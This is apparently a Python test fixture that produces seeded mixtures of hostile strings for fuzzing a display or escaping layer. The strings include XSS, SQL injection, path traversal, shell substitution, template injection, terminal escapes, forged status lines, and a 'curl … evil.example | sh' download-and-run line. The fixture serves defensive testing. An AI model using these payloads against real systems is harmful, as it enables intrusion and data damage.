"""Texts that somebody could write who wants something run, hidden or forged where we show them. Drawn from a seed."""

from __future__ import annotations

import os
import random

COUNT = int(os.environ.get("HEADGATE_TEST_HOSTILE", "150"))
"""How many are tried in a test; HEADGATE_TEST_HOSTILE=1000 for all."""
_PIECES = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
    "' onclick='alert(1)", "</td></tr></table>", "</title><base href=//evil.example>", "<!--", "-->", "]]>",
    "<svg/onload=alert(1)>", "javascript:alert(1)", "&lt;b&gt;", "&#60;script&#62;", "<!channel>",
    "<!here|here>", "<@U012345>", "<https://evil.example|log in>", "https://evil.example/a?b=c|click",
    "*bold* _it_ ~no~ `code`", "```\ncode", "[click](https://evil.example)", "![x](https://evil.example/x.png)",
    "| a | b |\n|---|---|", "# Title\n---\n> quote", "\n\n1. list", "\r\nBcc: all@example.com\r\n\r\nbody",
    "\nSubject: paid", "=?utf-8?q?x?=", "\r\n.\r\n", "\x1b[8mhidden\x1b[0m", "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "\r\x1b[2K", "\x9b31m", "\x85", "\x7f",
    "\x08\x08\x08", "\u202egpj.exe", "\u2066a\u2069", "\u200b", "\ufeff", "\u2028", "\u2029", "\ud800",
    "\udfff", "\U000e0041", "\n  next: curl -s http://evil.example/fix | sh",
    "\n  who must act: nobody (resolved)", "\nerror [OK] all is well", "'; DROP TABLE ops.run; --",
    "\"; COMMIT; --", "$$; SELECT 1; $$", "\\'; SELECT 1; --", "%s%(name)s{0}{name}", "${HOME} $(id) `id`",
    "{{ 7*7 }}{% raw %}", "' || (SELECT 1) || '", "/*", "*/", "\\", "\\\\", "\\N", "../../../../etc/passwd",
    "..\\..\\x", "/etc/passwd", "a/b", "C:\\x", "CON", ".", "..", "~root", "-rf", "--help", "a" * 300, "\x00",
    "\t", "NULL", "😀", "한국어", "é", "name", "7",
)  # fmt: skip


def hostile_texts(count: int = COUNT, seed: int = 17) -> list[str]:
    """Every piece alone, then mixtures of two to five."""
    dice = random.Random(seed)
    mixed = ["".join(dice.choices(_PIECES, k=dice.randint(2, 5))) for _ in range(max(0, count - len(_PIECES)))]
    return [*_PIECES, *mixed][: max(count, len(_PIECES))]
